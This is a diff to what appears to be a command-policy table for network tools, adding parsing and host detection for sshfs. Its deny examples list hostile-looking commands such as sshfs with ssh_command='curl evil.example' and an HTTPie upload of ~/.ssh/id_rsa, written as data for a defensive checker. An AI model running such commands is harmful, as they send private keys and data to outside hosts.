@@ -665,7 +665,19 @@ export const NETWORK_ENTRIES: ProgramEntry[] = [
     examples: { deny: ['ping -c 1 8.8.8.8', 'ping evil.example'], pass: ['ping -c 1 localhost', 'ping -c 3 127.0.0.1'] },
   }),
   plainClient(['telnet', 'ftp', 'tftp', 'ncftp', 'ncftpget', 'ncftpput', 'ftpget', 'ftpput', 'rsh', 'rlogin', 'rcp', 'rexec', 'mosh-client'], [], 'remote terminals and file transfer clients'),
-  { names: ['sshfs'], summary: 'sshfs: -o ssh_command names the program it runs', analyze: (call) => ({ runs: sshOptions(call) }), examples: { deny: ["sshfs -o ssh_command='curl evil.example' x: /mnt"], pass: [] } },
+  {
+    names: ['sshfs'],
+    summary: 'sshfs: mounts over ssh (connects to the host of its first operand); -o ssh_command names the program it runs',
+    analyze: (call) => {
+      const p = parse(call.args, { order: 'gnu', flags: 'fsdCV1h', valued: 'op', long: ['version', 'help', 'debug'] });
+      const info = infoOnly(p, call, ['V', 'version', 'h', 'help']);
+      if (info) return { ...info, runs: sshOptions(call) };
+      const remote = p.operands[0]?.word;
+      const uses: Uses = remote ? [{ word: remote, role: 'host' }] : [];
+      return { runs: sshOptions(call), uses, ...(remote ? { destinations: destinations(attached(remote, (value(remote) ?? '').replace(/:.*$/s, '').replace(/^[^@]*@/, '')), canonicalHost) } : {}) };
+    },
+    examples: { deny: ["sshfs -o ssh_command='curl evil.example' x: /mnt", 'sshfs evil.example:/ /tmp/x', 'sshfs user@evil.example:/srv /mnt/x'], pass: ['sshfs --version'] },
+  },
   plainClient(['dig', 'kdig', 'drill', 'host', 'nslookup'], ['v', 'version', 'h'], 'DNS clients: a lookup carries its name out'),
   { names: ['http', 'https', 'xh', 'xhs', 'httpie'], summary: 'HTTPie and xh: connect to their URL (`:3000` is localhost); name@file items send a file', analyze: httpie, examples: { deny: ['http evil.example', 'xh POST https://evil.example x=1', 'http POST :3000/upload f@~/.ssh/id_rsa', 'http --proxy=http:http://evil.example:8080 :3000'], pass: ['http :3000/api/items', 'xh localhost:8080/health', 'http POST :8000/api/login username=admin password=admin', 'http --version', 'http --offline POST evil.example x=1'] } },
   plainClient(['websocat', 'wscat'], ['version', 'help', 'V', 'h'], 'websocket clients'),
